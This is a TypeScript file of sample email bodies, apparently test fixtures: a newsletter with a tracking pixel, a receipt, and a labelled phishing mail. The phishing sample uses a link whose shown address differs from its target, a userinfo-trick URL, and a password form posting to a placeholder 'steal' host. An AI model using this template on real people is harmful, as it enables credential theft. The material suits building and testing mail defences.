import type { Mail } from '../story';

/* Bodies of emails as they come from the world: laid out with tables, with images elsewhere, with a lie in a link. */

const cell = (title: string, text: string, image: string): string =>
  `<td width="50%" valign="top" style="padding:12px"><img src="https://example.com/images/${image}" alt="${title}" width="250" height="140" style="display:block;border-radius:8px;width:100%"><h2 style="font-size:17px;margin:12px 0 4px;color:#123c5a">${title}</h2><p style="margin:0;color:#475467;font-size:14px">${text}</p></td>`;

/** A newsletter: nested tables, its own fonts, remote images, a background and an invisible pixel that reports. */
export const newsletter: Mail = {
  way: 'outbound',
  text: 'Spring is here! Two offers for you, and how to keep your teeth bright after coffee.',
  html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Spring at Example Street</title><style>@import url("https://example.com/fonts/css?family=Sample");@font-face{font-family:Sample;src:url(https://example.com/fonts/sample.woff2)}body{margin:0;background:#eef3f7;font-family:Sample,Arial,sans-serif}.button{background:#0f6fb8;color:#ffffff;text-decoration:none;padding:12px 22px;border-radius:6px;display:inline-block;font-weight:bold}@media (max-width:480px){td{display:block;width:100%}}</style></head><body><div style="display:none;max-height:0;overflow:hidden">Two offers for you this spring</div><table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#eef3f7"><tr><td align="center" style="padding:24px 8px"><table role="presentation" width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="border-radius:12px;overflow:hidden"><tr><td background="https://example.com/images/spring.jpg" bgcolor="#123c5a" style="padding:36px 28px;background-image:url('https://example.com/images/spring.jpg')"><img src="https://example.com/images/logo.png" alt="Example Street" width="160" height="36"><h1 style="color:#ffffff;margin:18px 0 0;font-size:30px">Spring is here, Ada!</h1><p style="color:#cfe4f4;margin:8px 0 0">Two offers for you, until the end of April.</p></td></tr><tr><td style="padding:12px 16px"><table role="presentation" width="100%"><tr>${cell('Whitening at half price', 'One visit, one hour, up to six shades brighter.', 'smile.jpg')}${cell('Check-up for two', 'Bring a friend: both cleanings for the price of one.', 'friends.jpg')}</tr></table></td></tr><tr><td align="center" style="padding:12px 16px 32px"><a class="button" href="https://example.com/spring?utm_source=mail&amp;to=ada">Book your visit</a></td></tr><tr><td bgcolor="#f8fafc" style="padding:18px 28px;color:#475467;font-size:12px">Example Street Front Desk · 1 Example Street, Sampleton<br><a href="https://example.com/preferences">Preferences</a> · <a href="https://example.com/unsubscribe">Unsubscribe</a></td></tr></table></td></tr></table><img src="https://example.net/open?m=42&amp;to=ada" width="1" height="1" alt=""></body></html>`,
};

/** An invoice with a logo elsewhere and one inside the email itself. */
export const receipt: Mail = {
  way: 'outbound',
  text: 'Hello Iris,\nthank you, we received your payment of 240.00. This is your receipt.',
  html: `<table width="100%" style="font-family:Georgia,serif"><tr><td><img src="https://example.com/images/logo.png" alt="Example Street" width="160" height="36"></td><td align="right"><img alt="paid" width="48" height="48" src="data:image/svg+xml,%3Csvg xmlns='http:%2F%2Fwww.w3.org%2F2000%2Fsvg' viewBox='0 0 48 48'%3E%3Ccircle cx='24' cy='24' r='22' fill='%2312805c'/%3E%3Cpath d='M13 25l8 8 15-17' fill='none' stroke='white' stroke-width='4'/%3E%3C/svg%3E"></td></tr></table><p>Hello Iris,</p><p>thank you, we received your payment of <b>240.00</b>. This is your receipt.</p><p>Questions? <a href="https://example.com/help">Our help pages</a></p>`,
};

/** What a phishing mail looks like: its link says one thing and leads elsewhere. */
export const phishing: Mail = {
  way: 'inbound',
  text: 'Your mailbox is almost full.',
  html: `<div style="font-family:Arial;max-width:520px;border-top:4px solid #d92d20;padding:16px"><h2 style="margin-top:0">Your mailbox is almost full</h2><p>Dear user, 98 % of your storage is used. Confirm your account within 24 hours, or incoming messages are lost:</p><p><a href="https://example.net/login/a?b=c">https://example.com/account</a></p><p><a href="http://example.org/plain">Contact support</a> or <a href="https://ada@example.net/">write to us</a></p><form action="https://example.net/steal"><input name="password" type="password" placeholder="Password"><button>Confirm</button></form><p style="color:#98a2b3;font-size:12px">The mail team</p></div>`,
  more: { from: 'Mail team <support@example.com>', provider: 'smtp' },
};
